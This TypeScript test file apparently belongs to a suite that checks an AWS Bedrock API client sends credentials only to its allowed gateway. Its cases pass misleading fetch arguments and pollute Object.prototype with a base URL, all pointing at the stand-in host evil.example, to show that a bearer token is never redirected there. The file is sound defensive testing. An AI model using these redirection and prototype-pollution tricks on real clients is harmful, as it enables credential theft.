import type { Case, Context } from "../case.ts";
import { equal, ok } from "../check.ts";
import type { Fault } from "../subjects/faults.ts";
import { GATEWAY, gateways } from "./gateway.ts";
import { empty, last } from "./steps.ts";

const ALLOWED = `${GATEWAY}/models`;
const OTHER = "https://evil.example/v1/models";

/** Arguments of `fetch` that name both the right URL and another one. */
interface Misleading {
  readonly id: string;
  readonly title: string;
  readonly source: string;
  /** Set if a client may refuse them. */
  readonly mayRefuse?: true;
  args(): [input: RequestInfo | URL, init?: RequestInit];
}

function misleading({ args, mayRefuse, ...about }: Misleading): Case {
  return {
    ...about,
    id: `containment/${about.id}`,
    needs: ["fetch"],
    handle: empty,
    async run(subject, context) {
      const connections = await gateways(subject, context);
      for (const { fetch } of connections) {
        ok(fetch, "The subject does not offer `fetch`");
        const attempt = fetch(...args());
        await (mayRefuse ? attempt.catch(() => {}) : attempt);
      }
      if (!mayRefuse) ok(context.sent.length === connections.length, "Nothing was sent");
      assertOnlyAllowed(context);
    },
    negative: sendsElsewhere,
  };
}

/** Sends every call of `fetch` to another host. */
const sendsElsewhere: Fault = (subject) => ({
  ...subject,
  async connect(options, transport) {
    const connection = await subject.connect(options, transport);
    return { ...connection, fetch: () => transport(OTHER) };
  },
});

function assertOnlyAllowed({ sent }: Context): void {
  for (const { url } of sent) ok(url === ALLOWED, `A credential was sent to ${url}`);
}

const misleadings: readonly Misleading[] = [
  {
    id: "url-of-an-init-is-ignored",
    title: "A `url` in the init of a Request is ignored",
    source: "https://fetch.spec.whatwg.org/#requestinit",
    args: () => [new Request(ALLOWED), { url: OTHER } as RequestInit],
  },
  {
    id: "request-that-names-another-url",
    title: "A Request whose `url` was overridden goes where the platform would send it, or nowhere",
    source: "https://fetch.spec.whatwg.org/#dom-request-url",
    mayRefuse: true,
    args: () => [Object.defineProperty(new Request(OTHER), "url", { value: ALLOWED })],
  },
  {
    id: "url-whose-text-changes",
    title: "An object whose text changes is sent to the URL that was checked, or nowhere",
    source: "https://fetch.spec.whatwg.org/#dom-global-fetch",
    mayRefuse: true,
    args() {
      let reads = 0;
      return [Object.defineProperty(new URL(ALLOWED), "toString", {
        value: () => reads++ ? OTHER : ALLOWED,
      })];
    },
  },
];

const polluted: Case = {
  id: "containment/variable-on-the-root-prototype",
  title: "A base URL on a polluted Object.prototype is ignored",
  source: "https://cwe.mitre.org/data/definitions/1321.html",
  own: true,
  needs: ["fetch"],
  handle: empty,
  async run(subject, context) {
    const { region, bearerToken: apiKey } = context;
    // A client reads its configuration at once
    const { fetch } = await withPolluted(() => subject.connect({ region, apiKey }, context.fetch));
    ok(fetch, "The subject does not offer `fetch`");
    await fetch(`https://bedrock-mantle.${region}.api.aws/openai/v1/models`);
    equal(new URL(last(context).url).host, `bedrock-mantle.${region}.api.aws`, "Sent to");
  },
  negative: sendsElsewhere,
};

function withPolluted<T>(run: () => T): T {
  const variables = { AWS_BEDROCK_BASE_URL: "https://evil.example/v1" };
  // Browsers have no `process`: one could be made up for them
  const polluted = { ...variables, process: { env: variables } };
  for (const [name, value] of Object.entries(polluted)) {
    Object.defineProperty(Object.prototype, name, { configurable: true, value });
  }
  try {
    return run();
  } finally {
    for (const name of Object.keys(polluted)) Reflect.deleteProperty(Object.prototype, name);
  }
}

export const containmentArguments: readonly Case[] = [...misleadings.map(misleading), polluted];
